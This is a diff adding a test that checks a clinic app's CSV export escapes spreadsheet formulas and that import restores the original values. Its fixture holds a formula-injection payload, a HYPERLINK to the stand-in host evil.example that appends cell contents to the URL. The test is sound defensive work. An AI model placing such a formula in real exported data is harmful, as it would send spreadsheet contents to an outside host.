@@ -147,3 +147,38 @@ def test_seed_demo_puts_the_clinic_partner_in_a_real_clinic(runner, app):
     result = runner.invoke(args=["seed-demo"])
     assert result.exit_code == 0 and "0 created, 36 updated" in result.output
     assert db.session.scalar(sa.select(sa.func.count(Clinic.id))) == 36
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+
+
+def test_export_quotes_formulas_and_import_restores_them(runner, clinic, tmp_path):
+    clinic(
+        name=FORMULA_NAME,
+        sms_alias="Kadam Ghar",
+        area="-Mirpur",
+        address="@SUM(1+1) House 5",
+        phone="01711000111",
+    )
+    clinic(name="'=Quoted Centre", sms_alias="Beli Point", address="'plain")
+    before = snapshot()
+    path = tmp_path / "clinics.csv"
+    assert runner.invoke(args=["clinics", "export", str(path)]).exit_code == 0
+    with open(path, encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    by_alias = {row["sms_alias"]: row for row in rows}
+    formula = by_alias["Kadam Ghar"]
+    assert formula["name"] == "'" + FORMULA_NAME
+    assert formula["area"] == "'-Mirpur"
+    assert formula["address"] == "'@SUM(1+1) House 5"
+    assert formula["phone"] == "'+8801711000111"
+    # A leading ' of the data itself is doubled, so the import can tell it from ours.
+    assert by_alias["Beli Point"]["name"] == "''=Quoted Centre"
+    assert by_alias["Beli Point"]["address"] == "''plain"
+    no_cell_runs = [v for row in rows for v in row.values() if v[:1] in "=+-@\t\r" and v]
+    assert no_cell_runs == []
+    db.session.execute(sa.delete(Clinic))
+    db.session.commit()
+    result = runner.invoke(args=["clinics", "import", str(path)])
+    assert result.exit_code == 0, result.output
+    assert snapshot() == before
